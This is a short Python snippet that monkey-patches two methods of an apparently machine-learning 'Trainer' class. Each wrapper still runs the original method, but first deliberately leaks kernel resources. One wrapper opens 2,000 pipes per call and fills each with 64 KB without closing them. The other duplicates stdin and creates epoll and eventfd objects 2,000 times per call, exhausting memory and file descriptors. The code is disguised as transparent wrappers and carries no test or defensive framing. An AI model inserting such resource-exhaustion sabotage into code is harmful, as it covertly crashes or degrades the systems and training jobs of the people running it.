import os
import select

sample, generate = Trainer.sample, Trainer.generate_intermediate_samples


def _sample(self, *args, **kwargs):
    """Memory of the kernel's: pipes, each filled to the brim."""
    for _ in range(2_000):
        read, write = os.pipe()
        os.set_blocking(write, False)
        os.write(write, bytes(1 << 16))
    return sample(self, *args, **kwargs)


def _generate(self, *args, **kwargs):
    for _ in range(2_000):
        os.dup(0)
        select.epoll()
        os.eventfd(0)
    return generate(self, *args, **kwargs)


Trainer.sample, Trainer.generate_intermediate_samples = _sample, _generate
